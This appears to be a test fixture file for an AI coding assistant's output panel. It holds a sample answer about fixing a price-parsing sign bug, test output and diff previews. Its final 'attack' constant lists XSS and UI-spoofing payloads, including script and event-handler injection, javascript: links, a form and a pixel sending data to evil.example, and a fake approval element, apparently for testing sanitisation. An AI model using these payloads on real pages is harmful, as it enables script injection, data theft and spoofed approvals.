import type { FileChangePreview } from '../../src/core/protocol/toolCalls';

export const markdownAnswer = `The test fails because \`parsePrice\` drops the sign. Two places are involved:

1. **\`src/price/parsePrice.ts\`** strips everything that is not a digit, so \`-12.50\` becomes \`12.50\`.
2. **\`src/cart/total.ts\`** assumes that discounts are negative. See [the call](src/cart/total.ts#L42) and the
   [number format notes](https://example.com/notes).

### What I would change

\`\`\`ts
/** Parses "1,234.50", "-3" and "(3)". */
export function parsePrice(text: string): number {
  const negative = /^\\s*(-|\\()/.test(text);
  const digits = text.replace(/[^\\d.]/g, '');
  return negative ? -Number(digits) : Number(digits); // keeps the sign that was lost before in every single discount
}
\`\`\`

| Input | Before | After |
|---|---:|---:|
| \`-12.50\` | 12.50 | −12.50 |
| \`(3)\` | 3 | −3 |

> Prices with a currency sign go the same way.

- [x] read the failing test
- [ ] write the fix
`;

export const testOutput = `
> shop@1.0.0 test
> mocha

  parsePrice
    \u001b[32m✔\u001b[0m reads whole numbers
    \u001b[32m✔\u001b[0m reads thousands
    \u001b[31m1) keeps the sign\u001b[0m

  cart total
    \u001b[32m✔\u001b[0m adds items
    \u001b[32m✔\u001b[0m an empty cart is free

  4 passing (38ms)
  1 failing

  1) parsePrice
       keeps the sign:

      AssertionError [ERR_ASSERTION]: Expected values to be strictly equal:
      12.5 !== -12.5
      at Context.<anonymous> (test/price/parsePrice.test.ts:14:10)
`;

export const priceChange: FileChangePreview = {
  path: 'src/price/parsePrice.ts',
  kind: 'modify',
  additions: 4,
  deletions: 1,
  truncated: false,
  diff: `@@ -8,7 +8,10 @@
 import { currencySigns } from './currencySigns';

 /** Parses a price as people write it. */
 export function parsePrice(text: string): number {
-  return Number(text.replace(/[^\\d.]/g, ''));
+  const negative = /^\\s*(-|\\()/.test(text);
+  const digits = text.replace(/[^\\d.]/g, '');
+
+  return negative ? -Number(digits) : Number(digits); // keeps the sign that was lost before
 }
`,
};

export const testChange: FileChangePreview = {
  path: 'test/price/parsePrice.negative.test.ts',
  kind: 'create',
  additions: 5,
  deletions: 0,
  truncated: false,
  diff: `@@ -0,0 +1,5 @@
+import { strict as assert } from 'node:assert';
+import { parsePrice } from '../../src/price/parsePrice';
+it('keeps the sign', () => {
+  assert.equal(parsePrice('-12.50'), -12.5);
+});
`,
};

/** Markup that would run or leave the panel, wherever the model or a program could put it. */
export const attack = `<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"><svg onload="window.pwned = 3"></svg>
<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe><style>* { display: none }</style>
<form action="https://evil.example"><input name="key"><button>Approve</button></form>
<a href="javascript:window.pwned=5">one</a> <a href="command:workbench.action.quit">two</a> [three](javascript:window.pwned=6)
[four](data:text/html,<script>window.pwned=7</script>) ![pixel](https://evil.example/pixel.png?secret)
<details open ontoggle="window.pwned=8"><summary>s</summary>x</details> <b style="position:fixed;inset:0">b</b>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=9"></style></mglyph></table></mtext></math>
<div class="approval" id="root">spoof</div>`;
